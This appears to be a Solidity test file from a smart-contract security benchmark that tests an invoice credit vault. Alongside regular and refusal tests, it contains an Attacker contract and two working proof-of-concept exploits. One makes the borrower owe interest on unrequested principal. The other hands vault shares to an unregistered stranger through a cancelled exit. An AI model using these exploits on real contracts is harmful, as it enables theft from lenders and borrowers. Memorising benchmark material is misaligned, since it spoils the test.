// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./InvoiceCreditVault.sol";
import "./context/LenderRegistry.sol";

// assay-canary-d321ccec-64cb-4402-b7ea-f04853389cf0

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Currency is ERC20("Currency", "CUR") {
    address private immutable _issuer = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == _issuer, "Currency: issuer only");
        _mint(to, amount);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

/// On the register of lenders, with money to lend.
contract Attacker {
    function press(InvoiceCreditVault vault, uint256 assets) external {
        vault.ASSET().approve(address(vault), type(uint256).max);
        vault.deposit(assets);
        vault.payInterest();
    }

    function handOver(InvoiceCreditVault vault, uint256 assets, address stranger) external {
        vault.ASSET().approve(address(vault), type(uint256).max);
        uint256 shares = vault.deposit(assets);
        vault.requestExit(shares);
        vault.cancelExit();
        vault.claimCanceled(stranger);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_760_600_000;
    uint256 private constant LIMIT = 300_000e6;
    address private constant ANA = address(0xA11A);
    address private constant BEN = address(0xBE11);
    address private constant COMPANY = address(0xC0C0);
    address private constant STRANGER = address(0x57A9);

    Currency public currency;
    LenderRegistry public registry;
    InvoiceCreditVault public vault;
    Attacker public lender;

    function setUp() public {
        vm.warp(START);
        currency = new Currency();
        registry = new LenderRegistry(address(this));
        vault = new InvoiceCreditVault(currency, registry, COMPANY, LIMIT, 1200);
        lender = new Attacker();
        registry.setLender(ANA, true);
        registry.setLender(BEN, true);
        registry.setLender(address(lender), true);
        currency.mint(ANA, 200_000e6);
        currency.mint(BEN, 50_000e6);
        currency.mint(COMPANY, 50_000e6);
        currency.mint(address(lender), 150_000e6);
        approve(ANA);
        approve(BEN);
        approve(COMPANY);
        vm.prank(ANA);
        vault.deposit(150_000e6);
        vm.prank(COMPANY);
        vault.requestDraw(100_000e6);
        vm.warp(START + 30 days);
    }

    function approve(address who) private {
        vm.prank(who);
        currency.approve(address(vault), type(uint256).max);
    }

    /// What the company has, less what it owes.
    function companyNet() public view returns (uint256) {
        return currency.balanceOf(COMPANY) - vault.principal() - vault.interestDue();
    }

    /// All shares are with lenders on the register, or with the vault.
    function lendersHoldAll() public view returns (bool) {
        uint256 held = vault.balanceOf(ANA) + vault.balanceOf(BEN) + vault.balanceOf(address(lender));
        return held + vault.balanceOf(address(vault)) == vault.totalSupply();
    }

    function test_Regular() public {
        require(companyNet() > 49_000e6 && lendersHoldAll(), "at first");
        require(vault.cash() == 50_000e6 && vault.decimals() == 9, "cash");

        // A second lender, a draw that is only served in part, and interest that serves a little more of it.
        vm.prank(BEN);
        uint256 shares = vault.deposit(40_000e6);
        require(shares > 39_700e9 && shares < 39_800e9, "at the present value");
        vm.startPrank(COMPANY);
        vault.requestDraw(200_000e6);
        require(vault.principal() == 190_000e6 && vault.requested() == 110_000e6, "in part");
        uint256 due = vault.interestDue();
        require(due == 986_301_369, "interest");
        require(vault.payInterest() == due, "paid");
        require(vault.principal() == 190_000e6 + due && vault.cash() == 0 && vault.interestDue() == 0, "served");
        vault.requestDraw(0);
        vault.repay(150_000e6);
        vm.stopPrank();
        require(vault.requested() == 0 && vault.cash() == 150_000e6, "repaid");
        require(vault.totalAssets() == 190_000e6 + due, "value");

        // An exit is called off, the shares come back and change hands.
        vm.startPrank(ANA);
        uint256 all = vault.balanceOf(ANA);
        vault.requestExit(all);
        vault.cancelExit();
        require(vault.balanceOf(ANA) == 0 && vault.claimCanceled(ANA) == all && vault.balanceOf(ANA) == all, "back");
        vault.transfer(BEN, 10_000e9);
        vault.approve(BEN, 5_000e9);
        vm.stopPrank();
        vm.prank(BEN);
        vault.transferFrom(ANA, BEN, 5_000e9);
        require(vault.balanceOf(BEN) == shares + 15_000e9 && lendersHoldAll(), "sold");

        // One who was struck off is paid.
        registry.setLender(BEN, false);
        vm.startPrank(BEN);
        vault.requestExit(30_000e9);
        vm.warp(START + 37 days);
        uint256 had = currency.balanceOf(BEN);
        uint256 worth = vault.previewRedeem(30_000e9);
        require(worth > 30_190e6 && worth < 30_250e6, "worth");
        require(vault.redeem(30_000e9) == worth && currency.balanceOf(BEN) == had + worth, "paid out");
        vm.stopPrank();
        require(vault.balanceOf(address(vault)) == 0 && vault.cash() == 150_000e6 - worth, "books");
    }

    // What is refused, each from the state after setUp().

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        refuses(STRANGER, "InvoiceCreditVault: not a lender");
        vault.deposit(1e6);
        refuses(ANA, "InvoiceCreditVault: not a lender");
        vault.transfer(STRANGER, 1e9);
        vm.prank(ANA);
        vault.approve(STRANGER, 2e9);
        refuses(STRANGER, "InvoiceCreditVault: not a lender");
        vault.transferFrom(ANA, STRANGER, 1e9);
        refuses(BEN, abi.encodeWithSignature("ERC20InsufficientAllowance(address,uint256,uint256)", BEN, 0, 1e9));
        vault.transferFrom(ANA, BEN, 1e9);
        refuses(ANA, "CreditLine: borrower only");
        vault.requestDraw(1e6);
        refuses(
            STRANGER,
            abi.encodeWithSignature(
                "AccessControlUnauthorizedAccount(address,bytes32)", STRANGER, registry.REGISTRAR_ROLE()
            )
        );
        registry.setLender(STRANGER, true);
    }

    function test_RefusesAmounts() public {
        refuses(ANA, "InvoiceCreditVault: no shares");
        vault.deposit(0);
        refuses(ANA, "InvoiceCreditVault: no shares");
        vault.requestExit(0);
        refuses(ANA, "InvoiceCreditVault: no exit");
        vault.cancelExit();
        refuses(ANA, "InvoiceCreditVault: no shares");
        vault.claimCanceled(ANA);
        refuses(COMPANY, "InvoiceCreditVault: limit");
        vault.requestDraw(200_000e6 + 1);
        refuses(COMPANY, "InvoiceCreditVault: amount");
        vault.repay(0);
        refuses(COMPANY, "InvoiceCreditVault: amount");
        vault.repay(100_000e6 + 1);
    }

    function test_RefusesEarlyOrUncoveredExits() public {
        vm.prank(ANA);
        vault.requestExit(100_000e9);
        vm.warp(START + 37 days - 1);
        refuses(ANA, "InvoiceCreditVault: notice");
        vault.redeem(1e9);
        vm.warp(START + 37 days);
        refuses(ANA, "InvoiceCreditVault: no shares");
        vault.redeem(0);
        refuses(ANA, "InvoiceCreditVault: no shares");
        vault.redeem(100_000e9 + 1);
        refuses(ANA, "InvoiceCreditVault: cash");
        vault.redeem(60_000e9);
        vm.prank(ANA);
        vault.redeem(40_000e9);
    }

    function test_RefusesBadTerms() public {
        vm.expectRevert("InvoiceCreditVault: zero address");
        new InvoiceCreditVault(IERC20(address(0)), registry, COMPANY, LIMIT, 1200);
        vm.expectRevert("InvoiceCreditVault: zero address");
        new InvoiceCreditVault(currency, ILenderRegistry(address(0)), COMPANY, LIMIT, 1200);
        vm.expectRevert("InvoiceCreditVault: bad terms");
        new InvoiceCreditVault(currency, registry, address(0), LIMIT, 1200);
        vm.expectRevert("InvoiceCreditVault: bad terms");
        new InvoiceCreditVault(currency, registry, COMPANY, 0, 1200);
        vm.expectRevert("LenderRegistry: zero admin");
        new LenderRegistry(address(0));
        vm.expectRevert("LenderRegistry: zero account");
        registry.setLender(address(0), true);
    }

    function exploit() public {
        lender.press(vault, 145_000e6);
        vm.warp(START + 395 days);
    }

    function test_Exploit() public {
        uint256 before = companyNet();
        exploit();
        require(companyNet() + 30_000e6 < before && vault.principal() > 290_000e6, "interest on more than it asked for");
    }

    function exploit2() public {
        lender.handOver(vault, 10_000e6, STRANGER);
    }

    function test_Exploit2() public {
        require(lendersHoldAll(), "at first");
        exploit2();
        require(!lendersHoldAll() && vault.balanceOf(STRANGER) > 9_900e9, "shares of a stranger");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(lender);
    }
}
